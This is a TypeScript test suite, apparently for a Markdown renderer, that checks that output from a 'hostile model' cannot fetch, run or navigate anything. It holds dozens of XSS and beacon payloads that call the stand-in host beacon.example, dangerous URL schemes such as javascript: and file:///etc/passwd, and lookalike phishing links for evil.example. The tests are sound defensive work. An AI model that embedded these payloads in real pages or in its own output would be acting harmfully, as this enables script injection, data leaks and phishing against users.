import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { RendererPage } from "../support/rendererPage";

const foreign = "https://beacon.example/x";

/** Ways to make a page fetch, run or go somewhere; each would reach `beacon.example` if it worked. */
const vectors: readonly string[] = [
  `![a](${foreign}.png)`,
  `![a][ref]\n\n[ref]: ${foreign}.png`,
  `[![a](${foreign}.png)](${foreign})`,
  `![a](<${foreign}.png> "title")`,
  `| a |\n| - |\n| ![a](${foreign}.png) |`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![a](//beacon.example/x.png) ![b](/x.png) ![c](file:///etc/hosts)`,
  `<img src=${foreign}.png>`,
  `<img srcset="${foreign}.png 1x">`,
  `<img src=x onerror="fetch('${foreign}')">`,
  `<picture><source srcset=${foreign}.png><img></picture>`,
  `<video src=${foreign}.mp4 autoplay poster=${foreign}.png></video>`,
  `<audio src=${foreign}.mp3 autoplay></audio>`,
  `<video><track default src=${foreign}.vtt></video>`,
  `<svg><image href=${foreign}.png /></svg>`,
  `<svg><use href="${foreign}#a" /></svg>`,
  `<svg><script>fetch("${foreign}")</script></svg>`,
  `<svg onload="fetch('${foreign}')"></svg>`,
  `<math><mi xlink:href="javascript:fetch('${foreign}')">a</mi></math>`,
  `<iframe src=${foreign}></iframe>`,
  `<iframe srcdoc="<img src=${foreign}>"></iframe>`,
  `<object data=${foreign}></object>`,
  `<embed src=${foreign}>`,
  `<link rel=stylesheet href=${foreign}.css>`,
  `<link rel=prefetch href=${foreign}><link rel=dns-prefetch href=//beacon.example>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<base href=${foreign}>`,
  `<script src=${foreign}.js></script>`,
  `<script>document.createElement = null; fetch("${foreign}")</script>`,
  `<style>@import "${foreign}.css"; body { background: url(${foreign}.png) }</style>`,
  `<div style="background: url(${foreign}.png)">a</div>`,
  `<table background=${foreign}.png><tr><td background=${foreign}.png>a</table>`,
  `<body background=${foreign}.png onload="fetch('${foreign}')">`,
  `<form action=${foreign}><input name=createElement autofocus onfocus=this.form.submit()></form>`,
  `<input type=image src=${foreign}.png>`,
  `<img name=createElement><form id=document name=body></form>`,
  `<details open ontoggle="fetch('${foreign}')">a</details>`,
  `<template><img src=${foreign}></template><noscript><img src=${foreign}></noscript>`,
  `\`\`\`"><img src=${foreign}>\ncode\n\`\`\``,
];

const refused: readonly string[] = [
  "command:workbench.action.quit",
  "vscode://file/etc/passwd",
  "vscode-insiders://x",
  "file:///etc/passwd",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "java%0ascript:alert(1)",
  "vbscript:x",
  "data:text/html,alert(1)",
  "blob:https://a.example/b",
  "ftp://a.example",
  "//a.example/b",
  "/etc/passwd",
  "../up.ts",
  "#fragment",
  "https:",
  "http://",
];

describe("Markdown from a hostile model", function () {
  this.timeout(120_000);
  let renderer: RendererPage;
  before(async () => {
    renderer = await RendererPage.open();
  });
  after(() => renderer?.close());
  beforeEach(() => renderer.load());

  for (const [index, vector] of vectors.entries()) {
    it(`neither fetches nor runs anything (${index + 1}: ${vector.slice(0, 40)})`, async () => {
      for (const chunk of [0, 1, 9]) await renderer.show(vector, chunk);
      await quiet();
    });
  }

  it("puts nothing of the model's but addresses, text and start numbers into attributes", async () => {
    await renderer.show(
      [...vectors, "3. a", '```evil" onclick=x {#id .class}\na\n```'].join("\n\n"),
    );
    const found = await renderer.page.evaluate(() => {
      const known =
        /^(?:class|href|title|dir|src|alt|start|type|disabled|checked|role|tabindex|d|viewBox|aria-(?:label|hidden|pressed))$/;
      const all = Array.from(document.querySelectorAll("main *"));
      return all.flatMap(one => one.getAttributeNames().filter(name => !known.test(name)));
    });
    assert.deepEqual(found, []);
    const names = await renderer.page.evaluate(() =>
      Array.from(document.querySelectorAll("main [class]"), one => one.getAttribute("class")),
    );
    const ours =
      /^(?:code-\w+|language-[\w+#.-]+|link-\w+|image-\w+|table-wrap|align-\w+|blocks|markdown|)$/;
    assert.deepEqual(
      names.filter(name => !ours.test(name ?? "")),
      [],
    );
  });

  it("shows where a refused link would have led, as text", async () => {
    for (const target of refused) {
      await renderer.show(`[the text](<${target}>)`);
      const shown = await renderer.page.evaluate(() => ({
        links: document.querySelectorAll("main a").length,
        text: harness.root.textContent,
      }));
      assert.equal(shown.links, 0, target);
      assert.match(shown.text, /^the text \(.+\)$/, target);
    }
    await quiet();
  });

  it("shows the real host when the text claims another one", async () => {
    const rows: readonly (readonly [markdown: string, note: string])[] = [
      ["[https://bank.example](https://evil.example/a)", " (evil.example)"],
      ["[bank.example](https://evil.example)", " (evil.example)"],
      ["[ｂａｎｋ.example](https://evil.example)", " (evil.example)"],
      ["[bank\u200B.example](https://evil.example)", " (evil.example)"],
      ["[go to https://bank.example now](https://evil.example)", " (evil.example)"],
      ["<https://bank.example@evil.example/>", " (evil.example)"],
      ["[bank.example](https://bank.example@evil.example)", " (evil.example)"],
      ["<https://b\u0430nk.example>", " (xn--bnk-6cd.example)"],
      ["[me@bank.example](mailto:you@evil.example)", " (you@evil.example)"],
      ["[www.bank.example](https://bank.example/login)", ""],
      ["https://bank.example/login", ""],
      ["[the docs](https://bank.example)", ""],
      ["[Node.js](https://nodejs.example)", ""],
    ];
    for (const [markdown, note] of rows) {
      await renderer.show(markdown);
      const hosts = await renderer.page.evaluate(() =>
        Array.from(harness.root.querySelectorAll(".link-host"), host => host.textContent).join(),
      );
      assert.equal(hosts, note, markdown);
    }
  });

  it("makes a chip of a remote picture, which opens it through the host", async () => {
    await renderer.show(`![A diagram](${foreign}.png)`);
    await renderer.page.getByRole("link", { name: "A diagram beacon.example" }).click();
    assert.deepEqual(await renderer.page.evaluate(() => harness.opened), [`${foreign}.png`]);
    await quiet();
  });

  it("draws a picture that holds its own pixels", async () => {
    const pixel =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    await renderer.show(`![dot](data:image/png;base64,${pixel})`);
    await renderer.page.waitForFunction(() => document.querySelector("img")?.naturalWidth === 1);
  });

  it("stays quiet over the attack corpus", async function () {
    const folder = process.env["PARLEY_CORPUS"] ?? "";
    if (!existsSync(join(folder, "dompurify-expect.json"))) return this.skip();
    for (const payload of corpus(folder)) await renderer.show(payload);
    await quiet();
  });

  it("shows deep nesting as text and keeps all of it", async () => {
    const emphasis = `${"*a **a ".repeat(5_000)}b${" a** a*".repeat(5_000)} `;
    const rows = ["> ".repeat(10_000), "- ".repeat(10_000), emphasis];
    for (const row of [...rows, `${"[".repeat(10_000)}x${"](y)".repeat(10_000)}`]) {
      await renderer.show(`${row}end`, 5_000);
      assert.match(await renderer.page.evaluate(() => harness.root.textContent), /end$/);
      const deepest = `main ${"* > ".repeat(300)} *`;
      assert.equal(await renderer.page.locator(deepest).count(), 0);
    }
    await renderer.page.evaluate(() => document.body.offsetHeight);
  });

  it("takes time in proportion to pathological input", async () => {
    const patterns = [
      "[",
      "a](",
      "![[",
      "*a ",
      "_a __",
      "`a``",
      "<",
      "&",
      "\\",
      "> ",
      "- ",
      "| a ",
      "\t",
      "~~",
      "<!--",
      "[a]: b\n",
      "a@",
      "http://",
      "www.",
      "[ (](",
      "* a\n  ",
      "**x *x ",
      "1. ",
      "()",
    ];
    for (const pattern of patterns) {
      const [short, long] = [await timeFor(pattern, 15_000), await timeFor(pattern, 120_000)];
      // Eight times the text; a quadratic parser needs 64 times as long. 150 ms are noise.
      assert.ok(
        long <= 20 * short + 150,
        `${JSON.stringify(pattern)}: ${short} ms, then ${long} ms`,
      );
    }
  });

  async function timeFor(pattern: string, length: number): Promise<number> {
    const text = pattern.repeat(Math.ceil(length / pattern.length));
    return renderer.page.evaluate(text => {
      const start = performance.now();
      harness.renew().set(text);
      return Math.round(performance.now() - start);
    }, text);
  }

  /** No request, no policy violation, no navigation, no clobbered document. */
  async function quiet(): Promise<void> {
    const state = await renderer.page.evaluate(async () => {
      await new Promise(resolve => setTimeout(resolve, 30));
      return {
        violations: harness.violations,
        native: harness.createElementIsNative(),
        forbidden: document.querySelectorAll(
          "main :is(script, style, iframe, object, embed, form, meta, link, base, video, audio, svg image, svg use, [style], [id], [name], a a)",
        ).length,
      };
    });
    assert.deepEqual(state, { violations: [], native: true, forbidden: 0 });
    assert.deepEqual(renderer.foreignRequests, []);
    assert.equal(renderer.navigations, 0);
  }
});

/** Payloads of the public collections, as a model could write them. */
function corpus(folder: string): string[] {
  const files = [
    "dompurify-expect",
    "blns",
    "xss-payloadbox",
    "markdown-it-xss",
    "markdown-it-fatal",
    "xss-patt-jhaddix-xss",
    "xss-patt-rsnake-xss",
    "marked-redos",
    "markdown-it-proto",
  ];
  return files.flatMap(name => {
    const file = join(folder, `${name}.json`);
    if (!existsSync(file)) return [];
    const { cases } = JSON.parse(readFileSync(file, "utf8")) as {
      cases: Record<string, unknown>[];
    };
    return cases.flatMap(one => Object.values(one).filter(value => typeof value === "string"));
  });
}
